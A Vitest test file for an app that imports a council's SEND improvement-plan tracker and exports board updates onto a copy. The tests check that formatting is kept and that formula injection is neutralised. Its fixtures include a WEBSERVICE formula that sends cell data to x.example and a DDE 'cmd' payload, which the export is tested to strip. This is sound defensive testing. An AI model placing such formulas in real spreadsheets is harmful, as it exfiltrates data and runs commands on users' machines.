import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createTrackerCopies } from '../../../electron/exports/tracker-copies';
import { createMainServices } from '../../../electron/services';
import type { MeetingBundle } from '../../../shared/exports/schema';
import type { ImportCandidate } from '../../../shared/ipc/contract';
import type { MeetingRecord } from '../../../shared/meetings/schema';
import type { PlanFile } from '../../../shared/plan/schema';
import { BOARD_NAME, exportMeeting } from './fixtures';

// The plan tracker round trip: a tracker imported through main's real sync path is kept, and
// the board's updates are written back onto a copy with the same columns, in the same order,
// plus added ones; the council's own cells (formulas included) are left as they were.

let base: string;
let services: ReturnType<typeof createMainServices>;
let dialogFiles: string[] = [];
let savePath: string | null = null;
const sender = { frameUrl: 'app://oversight/index.html', isOwnWindow: true };

beforeEach(async () => {
  base = await fs.mkdtemp(path.join(os.tmpdir(), 'oversight-tracker-'));
  services = createMainServices({
    appOrigin: 'app://oversight',
    dataFolder: path.join(base, 'data'),
    documentsFolder: path.join(base, 'Documents'),
    sampleFolder: path.join(base, 'none'),
    watchInbox: false,
    appInfo: { name: 'Oversight', version: '1', platform: 'linux', dataFolder: path.join(base, 'data'), locale: 'en-GB' },
    dialogs: { openFiles: async () => dialogFiles, chooseFolder: async () => null, saveFile: async () => savePath },
    openExternal: async () => undefined,
    openPath: async () => '',
    printHtmlToPdf: async () => new Uint8Array(),
    emit: () => undefined,
  });
});
afterEach(async () => {
  await services.stop();
  await fs.rm(base, { recursive: true, force: true });
});

async function call<T>(channel: string, argument: unknown): Promise<T> {
  const result = await services.dispatch(channel, sender, argument);
  if (!result.ok) throw new Error(`${channel}: ${result.error.message}`);
  return result.value as T;
}

/** Imports a tracker as the Import dialog would, confirming the suggested columns. */
async function importTracker(file: string): Promise<PlanFile> {
  dialogFiles = [file];
  const [candidate] = await call<ImportCandidate[]>('sync:open-dialog', { knownSha256: [] });
  if (candidate?.outcome.status !== 'needs-mapping') throw new Error('expected needs-mapping');
  const applied = await call<ImportCandidate>('sync:apply-mapping', {
    token: candidate.token,
    mapping: { ...candidate.outcome.mapping, localArea: 'Northmoor' },
    remember: false,
  });
  if (applied.outcome.status !== 'valid') throw new Error(JSON.stringify(applied.outcome));
  return applied.outcome.plan;
}

/** A meeting on that plan: a judgement and an action arising on the first action. */
function meetingOn(plan: PlanFile): MeetingBundle {
  const first = plan.actions[0];
  const second = plan.actions[1];
  if (!first || !second) throw new Error('plan needs two actions');
  const meeting = exportMeeting({ planId: plan.plan.id, carriedActions: [] });
  const at = '2027-01-14T14:00:00.000Z';
  const common = { meetingId: meeting.id, createdAt: at, updatedAt: at, chain: null };
  const label = `Action ${first.ref}: ${first.title}`;
  const records: MeetingRecord[] = [
    {
      ...common,
      id: 'j1',
      kind: 'judgement',
      itemId: 'item-3',
      target: { kind: 'action', planId: plan.plan.id, id: first.id, label },
      level: 'Not assured',
      reason: '=Recruitment has stalled',
    },
    {
      ...common,
      id: 'a1',
      kind: 'action',
      itemId: 'item-3',
      text: 'Report recruitment weekly',
      owner: 'Head of SEND',
      dueDate: '2027-02-11',
      links: [{ kind: 'action', planId: plan.plan.id, id: first.id, label }],
    },
    {
      ...common,
      id: 'j2',
      kind: 'judgement',
      itemId: 'item-2',
      target: { kind: 'action', planId: plan.plan.id, id: second.id, label: 'second' },
      level: 'Assured',
      reason: 'Confidential reason',
    },
  ];
  return { meeting, records, exemptSourceIds: [] };
}

async function writeXlsxTracker(file: string): Promise<void> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Tracker');
  sheet.addRow(['Northmoor SEND improvement plan tracker']);
  sheet.addRow(['Ref', 'Action', 'Lead', 'Due date', 'RAG', 'Notes']);
  sheet.addRow(['1.1', 'Recruit EHC coordinators', 'Head of SEND', '31/03/2027', 'Amber', 'On track']);
  sheet.addRow(['1.2', 'Audit EHC plans', 'Principal educational psychologist', '30/06/2027', 'Green', 'Started']);
  sheet.getCell('G3').value = { formula: 'LEN(B3)', result: 24 };
  sheet.getCell('A3').font = { bold: true };
  await workbook.xlsx.writeFile(file);
}

describe('the plan tracker round trip', () => {
  it('writes the board’s updates onto a copy of the XLSX tracker: same columns and order, added columns, formulas kept', async () => {
    const file = path.join(base, 'Northmoor tracker.xlsx');
    await writeXlsxTracker(file);
    const plan = await importTracker(file);
    savePath = path.join(base, 'out.xlsx');
    const result = await call<{ saved: boolean; fileName: string; summary: string }>('exports:save', {
      kind: 'tracker',
      includeExempt: false,
      boardName: BOARD_NAME,
      planId: plan.plan.id,
      revision: plan.export.revision,
      bundle: meetingOn(plan),
    });
    expect(result).toMatchObject({
      saved: true,
      fileName: 'out.xlsx',
      summary: '1 action row updated in a copy of Northmoor tracker.xlsx, with 4 added columns.',
    });

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(savePath);
    const sheet = workbook.getWorksheet('Tracker');
    const values = (row: number) => ((sheet?.getRow(row).values ?? []) as unknown[]).slice(1);
    expect(values(1)).toEqual(['Northmoor SEND improvement plan tracker']);
    expect(values(2)).toEqual([
      'Ref',
      'Action',
      'Lead',
      'Due date',
      'RAG',
      'Notes',
      undefined,
      'Board assurance',
      'Board comments',
      'Board meeting',
      'Board actions arising',
    ]);
    expect(values(3).slice(0, 6)).toEqual(['1.1', 'Recruit EHC coordinators', 'Head of SEND', '31/03/2027', 'Amber', 'On track']);
    expect(sheet?.getCell('G3').value).toEqual({ formula: 'LEN(B3)', result: 24 });
    expect(sheet?.getCell('A3').font?.bold).toBe(true);
    expect(values(3).slice(7)).toEqual([
      'Not assured',
      '=Recruitment has stalled',
      'SEND Oversight Board, 14 January 2027',
      'Report recruitment weekly (Head of SEND, by 11 February 2027)',
    ]);
    // Written as text, never as a formula; and the exempt item's judgement stays out.
    expect(sheet?.getCell('I3').type).toBe(ExcelJS.ValueType.String);
    expect(values(4).slice(7)).toEqual([]);
  });

  it('writes a CSV tracker back as CSV, with CONFIDENTIAL first when exempt items are included', async () => {
    const file = path.join(base, 'tracker.csv');
    await fs.writeFile(
      file,
      'Ref,Action,Lead,Due date,RAG\n1.1,Recruit coordinators,Head of SEND,31/03/2027,Amber\n1.2,Audit plans,PEP,30/06/2027,Green\n',
    );
    const plan = await importTracker(file);
    savePath = path.join(base, 'back.csv');
    const result = await call<{ fileName: string }>('exports:save', {
      kind: 'tracker',
      includeExempt: true,
      boardName: BOARD_NAME,
      planId: plan.plan.id,
      revision: plan.export.revision,
      bundle: meetingOn(plan),
    });
    expect(result.fileName).toBe('CONFIDENTIAL back.csv');
    const text = await fs.readFile(path.join(base, 'CONFIDENTIAL back.csv'), 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data).toEqual([
      ['CONFIDENTIAL: contains exempt items. Not for publication.'],
      ['Ref', 'Action', 'Lead', 'Due date', 'RAG', 'Board assurance', 'Board comments', 'Board meeting', 'Board actions arising'],
      [
        '1.1',
        'Recruit coordinators',
        'Head of SEND',
        '31/03/2027',
        'Amber',
        'Not assured',
        "'=Recruitment has stalled",
        'SEND Oversight Board, 14 January 2027',
        'Report recruitment weekly (Head of SEND, by 11 February 2027)',
      ],
      ['1.2', 'Audit plans', 'PEP', '30/06/2027', 'Green', 'Assured', 'Confidential reason', 'SEND Oversight Board, 14 January 2027', ''],
    ]);
  });

  it('copies the council’s CSV cells as they were, and leaves out formulas that reach out or read the board’s columns', async () => {
    const file = path.join(base, 'formulas.csv');
    await fs.writeFile(
      file,
      [
        'Ref,Action,Lead,Due date,RAG,Score,Sum,Leak,Reads board,Other book',
        '1.1,Recruit coordinators,Head of SEND,31/03/2027,Amber,-5,-2+3,"=WEBSERVICE(""http://x.example/?""&B2)",=K2,=[1]Sheet1!A1',
        "1.2,Audit plans,PEP,30/06/2027,Green,@12,=F3*2,\"=cmd|' /C calc'!A0\",=SUM(A3:E3),='C:\\x\\[Book.xlsx]S'!A1",
      ].join('\n') + '\n',
    );
    const plan = await importTracker(file);
    savePath = path.join(base, 'back.csv');
    const result = await call<{ summary: string }>('exports:save', {
      kind: 'tracker',
      includeExempt: false,
      boardName: BOARD_NAME,
      planId: plan.plan.id,
      revision: plan.export.revision,
      bundle: meetingOn(plan),
    });
    const rows = Papa.parse<string[]>((await fs.readFile(savePath, 'utf8')).slice(1), { skipEmptyLines: true }).data;
    // The council's own "-5", "-2+3", "@12", "=F3*2" and "=SUM(A3:E3)" are theirs, copied unprefixed.
    expect(rows[1]?.slice(0, 10)).toEqual(['1.1', 'Recruit coordinators', 'Head of SEND', '31/03/2027', 'Amber', '-5', '-2+3', '', '', '']);
    expect(rows[2]?.slice(0, 10)).toEqual(['1.2', 'Audit plans', 'PEP', '30/06/2027', 'Green', '@12', '=F3*2', '', '=SUM(A3:E3)', '']);
    // The board's cells are neutralised.
    expect(rows[1]?.[11]).toBe("'=Recruitment has stalled");
    expect(result.summary).toContain('5 of the council’s formulas were left out of the copy: H2 (it calls WEBSERVICE');
    expect(result.summary).toContain('I2 (it reads the board’s added columns)');
    expect(result.summary).toContain('J2 (it reads another workbook');
  });

  it('leaves out XLSX formulas, on any sheet, that reach out of the workbook or read the board’s columns, and keeps the rest', async () => {
    const file = path.join(base, 'formulas.xlsx');
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Tracker');
    sheet.addRow(['Ref', 'Action', 'Lead', 'Due date', 'RAG', 'Notes']);
    sheet.addRow(['1.1', 'Recruit EHC coordinators', 'Head of SEND', '31/03/2027', 'Amber', 'On track']);
    sheet.addRow(['1.2', 'Audit EHC plans', 'PEP', '30/06/2027', 'Green', 'Started']);
    sheet.getCell('G2').value = { formula: 'LEN(B2)', result: 24 };
    sheet.getCell('H2').value = { formula: 'WEBSERVICE("http://x.example/?q="&B2)', result: 'sent' };
    sheet.getCell('I2').value = { formula: 'SUM(J2:M2)', result: 0 };
    const summary = workbook.addWorksheet('Summary');
    summary.getCell('A1').value = { formula: 'Tracker!K2', result: 0 };
    summary.getCell('A2').value = { formula: '[1]Sheet1!A1', result: 7 };
    summary.getCell('A3').value = { formula: 'COUNTA(Tracker!A2:F3)', result: 12 };
    summary.getCell('A4').value = { formula: 'K2', result: 5 };
    await workbook.xlsx.writeFile(file);
    const plan = await importTracker(file);
    savePath = path.join(base, 'out.xlsx');
    const result = await call<{ summary: string }>('exports:save', {
      kind: 'tracker',
      includeExempt: false,
      boardName: BOARD_NAME,
      planId: plan.plan.id,
      revision: plan.export.revision,
      bundle: meetingOn(plan),
    });
    const back = new ExcelJS.Workbook();
    await back.xlsx.readFile(savePath);
    const tracker = back.getWorksheet('Tracker');
    const other = back.getWorksheet('Summary');
    expect(tracker?.getCell('G2').value).toEqual({ formula: 'LEN(B2)', result: 24 });
    // Left out: the last value stays, the formula goes.
    expect(tracker?.getCell('H2').value).toBe('sent');
    expect(tracker?.getCell('I2').value).toBe(0);
    expect(other?.getCell('A1').value).toBe(0);
    expect(other?.getCell('A2').value).toBe(7);
    expect(other?.getCell('A3').value).toEqual({ formula: 'COUNTA(Tracker!A2:F3)', result: 12 });
    // "K2" on the Summary sheet is Summary's own cell, not the board's column.
    expect(other?.getCell('A4').value).toEqual({ formula: 'K2', result: 5 });
    expect(result.summary).toContain('4 of the council’s formulas were left out of the copy');
    expect(result.summary).toContain('Tracker!H2 (it calls WEBSERVICE');
    expect(result.summary).toContain('Summary!A2 (it reads another workbook');
  });

  it('says so when the plan’s current revision did not come from a spreadsheet', async () => {
    const result = await services.dispatch('exports:save', sender, {
      kind: 'tracker',
      includeExempt: false,
      boardName: BOARD_NAME,
      planId: 'plan-1',
      revision: 3,
      bundle: { meeting: exportMeeting(), records: [], exemptSourceIds: [] },
    });
    expect(result).toMatchObject({ ok: false, error: { code: 'no-tracker' } });
  });

  it('keeps a copy only of the bytes examined, and the latest three revisions', async () => {
    const copies = createTrackerCopies(path.join(base, 'copies'));
    const file = path.join(base, 't.csv');
    await fs.writeFile(file, 'Ref,Action\n1,A\n');
    const mapping = {
      version: 1 as const,
      signature: 's',
      headerRow: 0,
      columns: { Ref: 'ref' as const, Action: 'title' as const },
      planId: 'p',
      planTitle: 'P',
      localArea: 'N',
      planKind: 'improvement-plan' as const,
    };
    await copies.keep({ planId: 'p', revision: 1, filePath: file, sha256: 'f'.repeat(64), mapping });
    expect(await copies.find('p', 1)).toBeUndefined();
    const { createHash } = await import('node:crypto');
    const sha256 = createHash('sha256')
      .update(await fs.readFile(file))
      .digest('hex');
    for (const revision of [1, 2, 3, 4]) await copies.keep({ planId: 'p', revision, filePath: file, sha256, mapping });
    expect(await copies.find('p', 1)).toBeUndefined();
    expect((await copies.find('p', 4))?.meta).toMatchObject({ planId: 'p', revision: 4, extension: '.csv', fileName: 't.csv' });
  });
});
